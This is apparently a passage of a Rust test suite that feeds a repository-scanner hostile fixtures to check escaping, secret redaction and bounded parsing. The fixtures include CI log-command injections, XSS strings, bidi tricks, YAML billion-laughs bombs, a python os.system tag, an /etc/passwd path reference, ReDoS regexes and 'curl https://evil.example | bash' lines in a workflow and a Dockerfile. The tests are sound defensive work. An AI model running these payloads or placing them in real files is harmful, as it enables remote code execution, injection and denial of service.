    fs::remove_file(root.join(".devops-maturity.yml")).unwrap();
    symlink(sb.outside.join("gitignore"), root.join(".gitignore")).unwrap();
    scan_checked("gitignore symlinked outside", root, &[], &e);
}

#[test]
fn a_symlinked_git_directory_does_not_leak_outside_history() {
    if !git_available() {
        eprintln!("git CLI not installed: skipped");
        return;
    }
    let sb = sandbox();
    let m = outside_marker("history");
    let other = sb.outside.join("other");
    fs::create_dir_all(&other).unwrap();
    git(&other, &["init", "-q"]);
    write(&other, "f.txt", "x");
    git(&other, &["add", "."]);
    git(
        &other,
        &[
            "-c",
            &format!("user.name={m}"),
            "-c",
            &format!("user.email={m}@example.com"),
            "commit",
            "-q",
            "-m",
            &m,
        ],
    );
    git(&other, &["tag", &format!("v1-{}", &m[m.len() - 8..])]);
    write(&sb.root, "README.md", "# x\n");
    symlink(other.join(".git"), sb.root.join(".git")).unwrap();
    let e = Expect {
        forbidden: vec![m.clone()],
        ..Expect::default()
    };
    scan_checked("symlinked .git", &sb.root, &[], &e);
    fs::remove_file(sb.root.join(".git")).unwrap();
    write(
        &sb.root,
        ".git",
        format!("gitdir: {}\n", other.join(".git").display()),
    );
    scan_checked("gitdir file pointing outside", &sb.root, &[], &e);
}

// ---------------------------------------------------------------------------------------------
// Cases: hostile file and folder names

/// File names that try every injection (a name cannot hold `/` or NUL).
fn hostile_names() -> Vec<Vec<u8>> {
    let mut v: Vec<Vec<u8>> = [
        "::error::name-injected",
        "::error file=x,line=1::annotation-name",
        "::add-mask::name-masked",
        "::stop-commands::name-stop",
        "::set-output name=score::10",
        "##[error]legacy-name",
        "##[set-output name=passed;]true",
        "##vso[task.setvariable variable=PWNED]1",
        "##teamcity[buildStatus text='PWNED']",
        "line1\n::error::after-newline",
        "cr\r::warning::after-cr",
        "crlf\r\n##[error]after-crlf",
        "%0A::error::percent-encoded",
        "a\n# PWNED-HEADING",
        "<img src=x onerror=alert(1)>.md",
        "<script>alert(1)<",
        "[click](javascript:alert(1)).md",
        "[home](https:evil.example).md",
        "a|b|c.md",
        "`tick`.md",
        "```fence.md",
        "\u{202e}gpj.exe",
        "\u{2066}isolate\u{2069}.yml",
        "esc\u{1b}[31mred.md",
        "bell\u{7}.md",
        "tab\tname.md",
        " leading-space.md",
        "-dash-first.md",
        "'quote\"s.md",
        "&amp;entity.md",
        "*emph*_under_.md",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();
    v.push(b"\xff\xfe-invalid-utf8.yml".to_vec());
    v.push(b"caf\xe9.md".to_vec());
    v.push(b"\xc0\xaf-overlong.md".to_vec());
    v
}

#[test]
fn hostile_file_names_are_shown_as_text() {
    // One repository per name, holding only that file: it becomes the anchor of every
    // repository-level finding, so the name reaches every report.
    for name in hostile_names() {
        let dir = tempfile::tempdir().unwrap();
        let os = OsStr::from_bytes(&name);
        write(dir.path(), os, "x\n");
        let case = format!("name {:?}", String::from_utf8_lossy(&name));
        scan_checked(&case, dir.path(), &[], &Expect::default());
    }
}

#[test]
fn hostile_names_everywhere_in_one_tree() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for (i, name) in hostile_names().into_iter().enumerate() {
        let os = OsStr::from_bytes(&name);
        // As a file at the root, a folder holding manifests, and a workflow file name.
        write(root, os, "x\n");
        let mut folder = name.clone();
        folder.extend_from_slice(b"-dir");
        let folder = PathBuf::from(OsStr::from_bytes(&folder));
        write(
            root,
            folder.join("Dockerfile"),
            "FROM node:latest\nRUN npm install\n",
        );
        write(
            root,
            folder.join("package.json"),
            "{\"name\": \"x\", \"scripts\": {}}\n",
        );
        write(
            root,
            folder.join("docker-compose.yml"),
            "services:\n  web:\n    image: nginx\n",
        );
        let mut wf = name.clone();
        wf.extend_from_slice(format!("-{i}.yml").as_bytes());
        write(
            root,
            Path::new(".github/workflows").join(OsStr::from_bytes(&wf)),
            "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n",
        );
    }
    // Custom rules cite every file (pass) and a missing one (fail), so names reach evidence.
    write(
        root,
        ".devops-maturity.yml",
        "custom-rules:\n  - id: every-file\n    title: Every file\n    category: docs\n    check:\n      file-exists: ['**']\n  - id: every-workflow\n    title: Workflows say hello\n    category: ci\n    check:\n      file-contains: {glob: '.github/workflows/*', regex: 'npm test'}\n  - id: never\n    title: Never present\n    category: dx\n    check:\n      file-exists: ['no/such/file']\n",
    );
    scan_checked("hostile names in one tree", root, &[], &Expect::default());
    // The other stdout formats go through the same guard.
    for format in ["markdown", "sarif"] {
        let o = scan_as(
            &format!("hostile names, {format} on stdout"),
            root,
            format,
            &[],
        );
        check(&o, &Expect::default());
    }
}

// ---------------------------------------------------------------------------------------------
// Cases: hostile contents the reports quote

#[test]
fn hostile_contents_are_quoted_as_text_and_secrets_never_echoed() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let p = PAYLOAD_YAML;
    write(
        root,
        ".github/workflows/ci.yml",
        format!(
            "name: {p}\n\
             on:\n  push:\n    branches: [{p}]\n  pull_request_target:\n\
             permissions: write-all\n\
             env:\n  AWS_ACCESS_KEY_ID: {AWS_KEY}\n  AWS_SECRET_ACCESS_KEY: {AWS_SECRET}\n  GH_TOKEN: {GH_TOKEN}\n  SLACK: {SLACK_TOKEN}\n\
             concurrency: {p}\n\
             jobs:\n  \"::error::job-id\":\n    name: {p}\n    runs-on: {p}\n    environment: {p}\n    container: {p}\n    services:\n      db:\n        image: {p}\n\
             \x20   steps:\n\
             \x20     - name: {p}\n        uses: \"actions/checkout@::error::ref\"\n\
             \x20     - name: \"<img src=x onerror=alert(1)>\"\n        uses: \"evil/<img src=x onerror=alert(1)>@main\"\n        with:\n          token: {GH_TOKEN}\n\
             \x20     - uses: \"docker://evil/::error::img:latest\"\n\
             \x20     - name: inline secrets\n        run: |\n          echo \"::error::run-line-injected\"\n          echo \"##[add-mask]legacy\"\n          curl -H 'Authorization: token {GH_TOKEN}' https://evil.example | bash\n          export AWS_ACCESS_KEY_ID={AWS_KEY}\n          echo '{PAYLOAD}'\n\
             \x20     - run: {p}\n\
             \x20       shell: {p}\n\
             \x20       timeout-minutes: {p}\n"
        ),
    );
    write(
        root,
        ".github/workflows/release.yaml",
        format!("name: \"\\u202e\\u2066::error::release\"\non: {{release: {{types: [{p}]}}}}\njobs: {{r: {{runs-on: x, steps: [{{run: \"echo {GH_TOKEN}\"}}]}}}}\n"),
    );
    write(
        root,
        "Dockerfile",
        format!(
            "# syntax=docker/dockerfile:1\n\
             FROM evil/image:latest AS ::error::stage\n\
             LABEL maintainer=\"<img src=x onerror=alert(1)>\" description=\"{PAYLOAD}\"\n\
             ENV AWS_ACCESS_KEY_ID={AWS_KEY} AWS_SECRET_ACCESS_KEY={AWS_SECRET}\n\
             ARG GITHUB_TOKEN={GH_TOKEN}\n\
             RUN echo \"::error::dockerfile-run\" && curl https://evil.example | sh # {PAYLOAD}\n\
             RUN <<EOF\necho ::add-mask::heredoc\necho {GH_TOKEN}\nEOF\n\
             COPY --chown=::error::x . /app\n\
             USER root\n\
             HEALTHCHECK CMD {PAYLOAD}\n\
             CMD {PAYLOAD}\n"
        ),
    );
    write(
        root,
        "docker-compose.yml",
        format!("services:\n  {p}:\n    image: {p}\n    environment:\n      - AWS_SECRET_ACCESS_KEY={AWS_SECRET}\n      - GITHUB_TOKEN={GH_TOKEN}\n    ports: [{p}]\n"),
    );
    write(
        root,
        "k8s/deployment.yaml",
        format!("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {p}\nspec:\n  template:\n    spec:\n      containers:\n        - name: {p}\n          image: {p}\n          env:\n            - name: TOKEN\n              value: {GH_TOKEN}\n"),
    );
    write(
        root,
        "package.json",
        format!(
            "{{\"name\": \"::error::pkg\", \"version\": \"1.0.0\", \"scripts\": {{\"test\": \"echo '::error::npm-test' && jest\", \"lint\": \"{}\", \"deploy\": \"TOKEN={GH_TOKEN} ./deploy\"}}, \"dependencies\": {{\"<img src=x onerror=alert(1)>\": \"*\"}}}}\n",
            PAYLOAD.replace('\\', "").replace('"', "'").replace('\u{202e}', "")
        ),
    );
    write(root, "README.md", format!("# {PAYLOAD}\n\n## ::error::readme-heading\n\n<img src=x onerror=alert(1)>\n\n[click](javascript:alert(1))\n"));
    write(root, "CONTRIBUTING.md", format!("{PAYLOAD}\n"));
    write(root, "src/config.py", format!("AWS_ACCESS_KEY_ID = \"{AWS_KEY}\"\nAWS_SECRET_ACCESS_KEY = \"{AWS_SECRET}\"\nGITHUB_TOKEN = '{GH_TOKEN}'\nSLACK = '{SLACK_TOKEN}'\nprint('::error::py')\n"));
    write(
        root,
        "src/app.ts",
        format!("const token = \"{GH_TOKEN}\";\nconsole.log('::error::ts', '{AWS_KEY}');\n"),
    );
    write(root, ".env", format!("AWS_ACCESS_KEY_ID={AWS_KEY}\nAWS_SECRET_ACCESS_KEY={AWS_SECRET}\nGITHUB_TOKEN={GH_TOKEN}\n"));
    write(
        root,
        "config/settings.json",
        format!(
            "{{\"aws\": \"{AWS_KEY}\", \"gh\": \"{GH_TOKEN}\", \"slack\": \"{SLACK_TOKEN}\"}}\n"
        ),
    );
    write(root, "terraform/main.tf", format!("provider \"aws\" {{\n  access_key = \"{AWS_KEY}\"\n  secret_key = \"{AWS_SECRET}\"\n}}\nresource \"x\" \"{PAYLOAD}\" {{}}\n"));
    write(
        root,
        ".pre-commit-config.yaml",
        format!("repos:\n  - repo: {p}\n    rev: {p}\n    hooks: [{{id: {p}}}]\n"),
    );
    write(
        root,
        ".github/dependabot.yml",
        format!("version: 2\nupdates:\n  - package-ecosystem: {p}\n    directory: {p}\n"),
    );
    write(root, "CODEOWNERS", format!("* @{PAYLOAD}\n"));
    write(root, "go.mod", format!("module {PAYLOAD}\n"));
    write(
        root,
        "pyproject.toml",
        format!("[project]\nname = \"{}\"\n", PAYLOAD.replace('"', "'")),
    );
    let e = Expect {
        forbidden: secrets(),
        ..Expect::default()
    };
    scan_checked("hostile contents", root, &[], &e);
    scan_checked(
        "hostile contents, service profile",
        root,
        &["--profile", "service"],
        &e,
    );
}

/// A repository whose configuration carries the payload in every free-text field.
fn hostile_configuration_repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let p = PAYLOAD_YAML;
    write(root, "README.md", "# x\n");
    write(root, "src/keys.py", format!("KEY = \"{AWS_KEY}\"\n"));
    write(
        root,
        ".devops-maturity.yml",
        format!(
            "ignore:\n  - rule: docs-license\n    reason: {p}\n  - rule: docs-readme\n    path: {p}\n    reason: {p}\ncustom-rules:\n  - id: hostile-title\n    title: {p}\n    category: docs\n    remediation: {p}\n    check:\n      file-exists: ['no/such/file']\n  - id: hostile-contains\n    title: {p}\n    category: security\n    check:\n      file-contains: {{glob: '**', regex: 'AKIA[0-9A-Z]{{16}}'}}\n"
        ),
    );
    dir
}

/// The configuration is repository content too (a pull request can change it): custom rule
/// titles and remediations, ignore reasons and paths reach every report.
#[test]
fn hostile_configuration_text_is_shown_as_text() {
    let dir = hostile_configuration_repo();
    let e = Expect {
        forbidden: secrets(),
        // Checked by the ignored test below until the bug is fixed.
        skip_sarif_markdown: true,
        ..Expect::default()
    };
    scan_checked("hostile configuration text", dir.path(), &[], &e);
}

#[test]
fn hostile_configuration_text_in_sarif_help_markdown() {
    let dir = hostile_configuration_repo();
    let e = Expect {
        forbidden: secrets(),
        ..Expect::default()
    };
    scan_checked(
        "hostile configuration text (SARIF help)",
        dir.path(),
        &[],
        &e,
    );
}

// ---------------------------------------------------------------------------------------------
// Cases: YAML, Dockerfiles and manifests that attack parsers

fn billion_laughs(levels: usize, width: usize) -> String {
    let mut text = String::from("a0: &a0 [\"lol\"");
    text.push_str(&", \"lol\"".repeat(width - 1));
    text.push_str("]\n");
    for i in 1..levels {
        let prev = format!("*a{}", i - 1);
        text.push_str(&format!("a{i}: &a{i} [{}]\n", vec![prev; width].join(", ")));
    }
    text
}

#[test]
fn yaml_and_parser_bombs_end_cleanly_with_bounded_memory() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let bomb = billion_laughs(10, 10);
    let bomb_wf =
        format!("{bomb}on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps: *a9\n");
    let deep_flow = "[".repeat(10_000) + &"]".repeat(10_000);
    let deep_map = "{a: ".repeat(10_000) + "x" + &"}".repeat(10_000);
    let deep_block = "- ".repeat(10_000) + "x\n";
    let deep_keys: String = (0..3_000)
        .map(|i| format!("{}k{i}:\n", " ".repeat(i % 60)))
        .collect();
    let many_keys: String = (0..20_000).map(|i| format!("k{i}: v\n")).collect();
    let flow_many = format!("[{}]", vec!["x"; 100_000].join(","));
    let anchors_many: String = (0..5_000)
        .map(|i| format!("a{i}: &x{i} {{k: v}}\nb{i}: *x{i}\n"))
        .collect();
    let merge_keys =
        format!("{bomb}base: &base {{k: *a9}}\nderived:\n  <<: [*base, *base, *base]\n");
    let cases: Vec<(String, Vec<u8>)> = vec![
        (".github/workflows/bomb.yml".into(), bomb_wf.clone().into_bytes()),
        ("docker-compose.yml".into(), bomb.clone().into_bytes()),
        ("k8s/bomb.yaml".into(), bomb.clone().into_bytes()),
        (".pre-commit-config.yaml".into(), merge_keys.into_bytes()),
        (".github/workflows/deep-flow.yml".into(), deep_flow.clone().into_bytes()),
        (".github/workflows/deep-map.yml".into(), deep_map.clone().into_bytes()),
        (".github/workflows/deep-block.yml".into(), deep_block.clone().into_bytes()),
        (".github/workflows/deep-keys.yml".into(), deep_keys.into_bytes()),
        (".github/workflows/many-keys.yml".into(), many_keys.into_bytes()),
        (".github/workflows/flow-many.yml".into(), flow_many.into_bytes()),
        (".github/workflows/anchors.yml".into(), anchors_many.into_bytes()),
        (".github/workflows/dup.yml".into(), b"on: push\non: pull_request\njobs:\n  a: {runs-on: x, steps: [{run: a}]}\n  a: {runs-on: y, steps: [{run: b}]}\njobs: 5\n".to_vec()),
        (".github/workflows/tags.yml".into(), b"%YAML 1.2\n%TAG !e! tag:evil.example,2000:\n--- !e!root\non: !!python/object/apply:os.system [\"id\"]\njobs: !!map\n  a: !custom {runs-on: !!int x, steps: !!seq [!!str {run: echo}]}\n".to_vec()),
        (".github/workflows/multi.yml".into(), b"on: push\njobs: {a: {runs-on: x, steps: [{run: a}]}}\n---\non: pull_request\n---\n--- 5\n...\n---\n[1, 2]\n".to_vec()),
        (".github/workflows/types.yml".into(), b"on: 5\npermissions: [1]\nenv: x\njobs:\n  - a\n  - b\n".to_vec()),
        (".github/workflows/types2.yml".into(), b"on: {push: 5, pull_request: [x]}\njobs:\n  a: 5\n  b: {steps: x, runs-on: [1, {a: b}], needs: {x: y}, timeout-minutes: {}}\n  c: {steps: [5, [1], null, {uses: {}}, {run: [1]}, {uses: \"\"}, {uses: \"@\"}, {uses: \"a@\"}, {uses: \"@b\"}, {uses: \"docker://\"}]}\n".to_vec()),
        (".github/workflows/empty.yml".into(), Vec::new()),
        (".github/workflows/only-doc-marker.yml".into(), b"---\n...\n".to_vec()),
        (".github/workflows/null.yml".into(), b"~\n".to_vec()),
        (".github/workflows/scalar.yml".into(), b"just a string\n".to_vec()),
        (".github/workflows/latin1.yml".into(), b"name: caf\xe9\non: push\njobs: {a: {runs-on: x, steps: [{run: \"\xff\xfe\"}]}}\n".to_vec()),
        (".github/workflows/bom.yml".into(), b"\xef\xbb\xbfname: bom\non: push\n".to_vec()),
        (".github/workflows/utf16.yml".into(), b"\xff\xfen\x00a\x00m\x00e\x00".to_vec()),
        (".github/workflows/cr-only.yml".into(), b"name: cr\ron: push\rjobs:\r  a:\r    runs-on: x\r    steps:\r      - run: echo\r".to_vec()),
        (".github/workflows/tabs.yml".into(), b"on:\tpush\njobs:\n\ta: {}\n".to_vec()),
        (".github/workflows/unterminated.yml".into(), b"name: \"unterminated\non: [push\njobs: {a: &x\n".to_vec()),
        (".github/workflows/unknown-alias.yml".into(), b"on: *nope\njobs: *nope\n".to_vec()),
        (".github/workflows/recursive-alias.yml".into(), b"a: &a [*a]\non: push\n".to_vec()),
        (".github/workflows/long-scalar.yml".into(), format!("name: {}\non: push\n", "A".repeat(900_000)).into_bytes()),
        (".github/workflows/long-run.yml".into(), format!("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n{}", "          echo x\n".repeat(20_000)).into_bytes()),
        ("Dockerfile".into(), Vec::new()),
        ("a/Dockerfile".into(), b"# only a comment\n".to_vec()),
        ("b/Dockerfile".into(), b"# syntax=docker/dockerfile:1\n# escape=`\nFROM alpine AS build\nRUN <<EOF\napk add curl\nEOF\nRUN <<-EOT bash\n\techo hi\nEOT\nCOPY <<EOF /etc/x\nunterminated heredoc\nRUN echo \\\n  a \\\n  b \\\n".to_vec()),
        ("c/Dockerfile".into(), format!("FROM alpine\nRUN echo {}\n", "a \\\n".repeat(100_000)).into_bytes()),
        ("d/Dockerfile".into(), b"FROM alpine\r\nRUN echo a \\\r\n  b\r\nUSER 1000\r\nCMD [\"a\",\r\n".to_vec()),
        ("e/Dockerfile".into(), format!("FROM {}\n", "x".repeat(900_000)).into_bytes()),
        ("f/Dockerfile".into(), b"FROM --platform=$BUILDPLATFORM ${BASE:-alpine}:${TAG}\nARG\nENV\nUSER\nHEALTHCHECK\nCMD [\"broken\nENTRYPOINT []\nFROM\n\\\n".to_vec()),
        ("g/Dockerfile".into(), b"FROM alpine\nRUN echo \xff\xfe\xfd\n".to_vec()),
        ("h/Containerfile".into(), b"\\\n\\\n\\\n".to_vec()),
        ("i/Dockerfile".into(), b"RUN <<EOF <<EOT <<EOU\na\nEOF\nb\nEOT\n".to_vec()),
        ("package.json".into(), b"{\"name\": \"x\", \"scripts\": {\"test\": ".to_vec()),
        ("web/package.json".into(), ("[".repeat(10_000) + &"]".repeat(10_000)).into_bytes()),
        ("api/package.json".into(), b"name: not json\n".to_vec()),
        ("lib/package.json".into(), b"\"a string\"".to_vec()),
        ("cli/package.json".into(), b"{\"scripts\": [1, 2], \"dependencies\": 5, \"devDependencies\": {\"jest\": {}}}".to_vec()),
        ("pyproject.toml".into(), b"[project\nname = = \"\n[[[[\n".to_vec()),
        ("Cargo.toml".into(), b"[package\n\xff".to_vec()),
        ("go.mod".into(), b"module\ngo\nrequire (\n".to_vec()),
        ("requirements.txt".into(), b"-r requirements.txt\n-r ../../../../etc/passwd\n".to_vec()),
        ("renovate.json".into(), b"{\"extends\": [".to_vec()),
        (".devcontainer/devcontainer.json".into(), b"// comment\n{\"image\": \n".to_vec()),
    ];
    for (path, bytes) in &cases {
        write(root, path, bytes);
    }
    let e = Expect::default();
    let o = scan_checked("parser bombs", root, &[], &e);
    // A 900 KB image name is quoted by rules; reports keep a bounded excerpt.
    let json_len = o.json.as_ref().map_or(0, String::len);
    assert!(json_len < 1024 * 1024, "JSON report is {json_len} bytes");
    check(
        &scan_all(
            "parser bombs, library, one thread",
            root,
            &["--profile", "library", "--threads", "1"],
        ),
        &e,
    );
}

#[test]
fn configuration_attacks_are_rejected_or_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "README.md", "# x\n");
    let heavy_regex: String = (0..40)
        .map(|i| format!("  - id: r{i}\n    title: R\n    category: ci\n    check:\n      file-contains: {{glob: '**', regex: '\\w{{60}}[a-z]{{40}}'}}\n"))
        .collect();
    let cases: Vec<(&str, String, &'static [i32])> = vec![
        ("syntax error", "min-score: [unclosed\n".into(), &[2]),
        ("unknown key", "profle: cli\n".into(), &[2]),
        ("wrong type", "min-score: high\nexclude: 5\n".into(), &[2]),
        ("negative size", "max-file-size: -1\n".into(), &[2]),
        ("u64::MAX size", "max-file-size: 18446744073709551615\n".into(), &[0, 1, 2]),
        ("huge size", "max-file-size: 1e30\n".into(), &[2]),
        ("zero size", "max-file-size: 0\n".into(), &[0, 1]),
        ("u64::MAX kept text", "max-kept-text: 18446744073709551615\n".into(), &[2]),
        ("no kept text", "max-kept-text: 0\n".into(), &[0, 1]),
        ("nan score", "min-score: .nan\n".into(), &[2]),
        ("inf weight", "categories: {ci: {weight: .inf}}\n".into(), &[2]),
        ("weight overflow", "rules: {docs-readme: {weight: 300}}\n".into(), &[2]),
        ("weight zero", "rules: {docs-readme: {weight: 0}}\n".into(), &[2]),
        ("tags", "min-score: !!str 5\nprofile: !custom cli\n".into(), &[0, 1, 2]),
        ("multi-document", "min-score: 1\n---\nmin-score: 2\n".into(), &[2]),
        ("duplicate keys", "min-score: 1\nmin-score: 2\n".into(), &[2]),
        ("billion laughs", format!("{}min-score: 1\n", billion_laughs(12, 10)), &[2]),
        ("alias bomb in a value", format!("{}exclude: *a11\n", billion_laughs(12, 10)), &[2]),
        ("deep nesting", "exclude: ".to_string() + &"[".repeat(10_000) + &"]".repeat(10_000), &[2]),
        ("newline in a key", "\"a\\n::error::cfg-key\\r##[error]legacy\": 1\n".into(), &[2]),
        ("hostile enum value", format!("profile: {PAYLOAD_YAML}\n"), &[2]),
        ("hostile rule id", format!("rules: {{{PAYLOAD_YAML}: {{enabled: false}}}}\n"), &[2]),
        ("hostile category", format!("categories: {{{PAYLOAD_YAML}: {{weight: 1}}}}\n"), &[2]),
        ("hostile glob", "exclude: ['a[', '{{{{{{{{']\n".into(), &[2]),
        ("hostile custom id", format!("custom-rules:\n  - id: {PAYLOAD_YAML}\n    title: t\n    category: ci\n    check: {{file-exists: [x]}}\n"), &[2]),
        ("catastrophic regex (linear engine)", "custom-rules:\n  - id: redos\n    title: t\n    category: ci\n    check:\n      file-contains: {glob: '**', regex: '(a+)+$'}\n".into(), &[0, 1]),
        ("regex over the size limit", "custom-rules:\n  - id: big\n    title: t\n    category: ci\n    check:\n      file-contains: {glob: '**', regex: '(?:\\w{500}){500}'}\n".into(), &[2]),
        ("counted repetition bomb", "custom-rules:\n  - id: big\n    title: t\n    category: ci\n    check:\n      file-contains: {glob: '**', regex: '((a{100}){100}){100}'}\n".into(), &[2]),
        ("invalid regex", "custom-rules:\n  - id: bad\n    title: t\n    category: ci\n    check:\n      file-contains: {glob: '**', regex: '('}\n".into(), &[2]),
        ("many heavy regexes", format!("custom-rules:\n{heavy_regex}"), &[0, 1, 2]),
        ("duplicate custom ids", "custom-rules:\n  - {id: a, title: t, category: ci, check: {file-exists: [x]}}\n  - {id: a, title: t, category: ci, check: {file-exists: [x]}}\n".into(), &[2]),
        ("both checks", "custom-rules:\n  - {id: a, title: t, category: ci, check: {file-exists: [x], file-contains: {glob: x, regex: x}}}\n".into(), &[2]),
        ("NUL byte", "min-score: 1\u{0}\n".into(), &[0, 1, 2]),
        ("only comments", "# nothing\n".into(), &[0, 1]),
        ("oversized", format!("{}min-score: 1\n", "# padding padding padding\n".repeat(60_000)), &[0, 1, 2]),
    ];
    for (name, text, codes) in cases {
        write(root, ".devops-maturity.yml", &text);
        let e = Expect {
            codes,
            ..Expect::default()
        };
        let o = scan_all(&format!("config: {name}"), root, &[]);
        check(&o, &e);
        if o.run.code == Some(2) {
            let err = o.stderr();
            assert!(
                err.contains(".devops-maturity.yml"),
                "config: {name}: the error names the file: {err}"
            );
        }
    }
    // Invalid UTF-8 bytes and a directory in place of the file.
    write(root, ".devops-maturity.yml", b"min-score: \xff\xfe\n");
    check(
        &scan_all("config: invalid UTF-8", root, &[]),
        &Expect {
            codes: &[0, 1, 2],
            ..Expect::default()
        },
    );
    fs::remove_file(root.join(".devops-maturity.yml")).unwrap();
    fs::create_dir(root.join(".devops-maturity.yml")).unwrap();
    check(
        &scan_all("config: a directory", root, &[]),
        &Expect {
            codes: &[0, 1, 2],
            ..Expect::default()
        },
    );
    // An explicit --config that does not exist or is not a file.
    let o = scan_all(
        "config: missing --config",
        root,
        &["--config", "/nonexistent/x.yml"],
    );
    check(
        &o,
        &Expect {
            codes: &[2],
            ..Expect::default()
        },
    );
}

// ---------------------------------------------------------------------------------------------
// Cases: size, binaries, permissions, special files

/// A 200 MB sparse file and 50 MB single-line files: skipped at the default cap; with the cap
/// raised to 64 MiB the single lines are read and scanned, the 200 MB file is still skipped.
#[test]
fn huge_files_are_skipped_or_scanned_within_bounds() {
    let base = tempfile::tempdir().unwrap();
    let root = base.path().join("repo");
    fs::create_dir_all(&root).unwrap();
    write(&root, "README.md", "# x\n");
    let sparse = fs::File::create(root.join("huge.yml")).unwrap();
    sparse.set_len(200 * 1024 * 1024).unwrap();
    drop(sparse);
    let line = "A".repeat(50 * 1024 * 1024);
    write(
        &root,
        ".github/workflows/one-line.yml",
        format!("name: {line}\non: push\n"),
    );
    write(&root, "src/one-line.js", format!("const a = '{line}';\n"));
    write(
        &root,
        "Dockerfile",
        format!("FROM alpine\nRUN echo {line}\n"),
    );
    // Rules quote the image name: the report must not.
    write(&root, "img/Dockerfile", format!("FROM {line}\nUSER app\n"));
    drop(line);
    let e = Expect {
        skipped: vec![
            ("huge.yml".into(), "max-file-size".into()),
            (
                ".github/workflows/one-line.yml".into(),
                "max-file-size".into(),
            ),
            ("src/one-line.js".into(), "max-file-size".into()),
        ],
        ..Expect::default()
    };
    scan_checked("huge files, default cap", &root, &[], &e);

    let cfg = base.path().join("raised.yml");
    fs::write(&cfg, "max-file-size: 67108864\n").unwrap();
    let cfg_s = cfg.to_str().unwrap().to_string();
    let e = Expect {
        skipped: vec![("huge.yml".into(), "max-file-size".into())],
        // Two walker threads may each hold a 50 MB file plus its parse.
        rss_bound_kib: 1024 * 1024,
        ..Expect::default()
    };
    let o = scan_checked("huge files, 64 MiB cap", &root, &["--config", &cfg_s], &e);
    let j = o.json_value().unwrap();
    assert!(
        j["stats"]["bytes"].as_u64().unwrap() > 100 * 1024 * 1024,
        "the 50 MB files were read: {}",
        j["stats"]
    );
}

/// Many files of the kind rules keep and parse (Kubernetes YAML, 40 MB in all): their text
/// and trees would take several hundred MB; `max-kept-text` bounds them, the largest files
/// give their text up first and are listed, and the workflow (configuration) keeps its own.
#[test]
fn kept_text_and_its_parse_stay_within_max_kept_text() {
    let base = tempfile::tempdir().unwrap();
    let root = base.path().join("repo");
    let mut doc = String::from("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\ndata:\n");
    while doc.len() < 400_000 {
        let n = doc.len();
        doc.push_str(&format!("  key{n}: value-{n}-xxxxxxxxxxxxxxxx\n"));
    }
    for i in 0..100 {
        // Sizes differ so that "largest first" has one answer.
        write(
            &root,
            format!("deploy/m{i:03}.yaml"),
            format!("{doc}# {}\n", "p".repeat(i)),
        );
    }
    write(
        &root,
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test\n",
    );
    write(
        &root,
        "Cargo.toml",
        "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
    );
    let cfg = base.path().join("budget.yml");
    fs::write(&cfg, "max-kept-text: 8388608\n").unwrap();
    let e = Expect {
        skipped: vec![("deploy/m099.yaml".into(), "text not kept".into())],
        // 8 MiB of YAML text and its trees, the binary and its walk (about 50 MB in a release
        // build): well below the ~195 MB the 40 MB take when every text is kept and parsed.
        rss_bound_kib: 120 * 1024,
        ..Expect::default()
    };
    let o = scan_checked(
        "40 MB of YAML, 8 MiB kept",
        &root,
        &["--config", cfg.to_str().unwrap()],
        &e,
    );
    let j = o.json_value().unwrap();
    let lost: Vec<&str> = j["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["reason"].as_str().unwrap().starts_with("text not kept"))
        .map(|s| s["path"].as_str().unwrap())
        .collect();
    // About 20 of the 100 files fit in 8 MiB: the smallest, so m000.. keep their text.
    assert!((75..=85).contains(&lost.len()), "{lost:?}");
    assert!(lost.iter().all(|p| p.starts_with("deploy/m")), "{lost:?}");
    assert!(!lost.contains(&"deploy/m000.yaml"), "{lost:?}");
    // The workflow kept its text: the CI rules still read it.
    let control = |id: &str| common::control(&j, id)["status"].clone();
    assert_eq!(control("ci-runs-tests"), "pass");
    assert_eq!(j["stats"]["files"], 102);
}

#[test]
#[ignore = "heavy: 100,000 files"]
fn one_hundred_thousand_empty_files() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let started = Instant::now();
    for d in 0..100 {
        let sub = root.join(format!("d{d:03}"));
        fs::create_dir_all(&sub).unwrap();
        for f in 0..1000 {
            fs::File::create(sub.join(format!("f{f:04}.txt"))).unwrap();
        }
    }
    eprintln!("[hostile] created 100,000 files in {:?}", started.elapsed());
    let e = Expect {
        rss_bound_kib: 512 * 1024,
        ..Expect::default()
    };
    let o = scan_checked("100,000 empty files", root, &[], &e);
    assert_eq!(o.json_value().unwrap()["stats"]["files"], 100_000);
}

#[test]
fn binary_blobs_with_text_extensions_are_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let mut blob = Vec::new();
    let mut x: u32 = 0x1234_5678;
    for _ in 0..200_000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        blob.push((x >> 24) as u8);
    }
    let mut with_nul = blob.clone();
    with_nul[10] = 0;
    let no_nul: Vec<u8> = blob.iter().map(|&b| b.max(1)).collect();
    for p in [
        "README.md",
        ".github/workflows/ci.yml",
        "Dockerfile",
        "package.json",
        "src/app.py",
    ] {
        write(root, p, &with_nul);
    }
    // High bytes without NUL: read lossily as text, parsers must cope.
    for p in [
        "docs/notes.md",
        ".github/workflows/noise.yml",
        "svc/Dockerfile",
        "svc/package.json",
        "svc/app.ts",
    ] {
        write(root, p, &no_nul);
    }
    // UTF-16 text has NUL bytes: binary by git's rule.
    let utf16: Vec<u8> = "name: ci\non: push\n"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    write(
        root,
        ".github/workflows/utf16.yml",
        [&[0xff, 0xfe][..], &utf16].concat(),
    );
    let e = Expect {
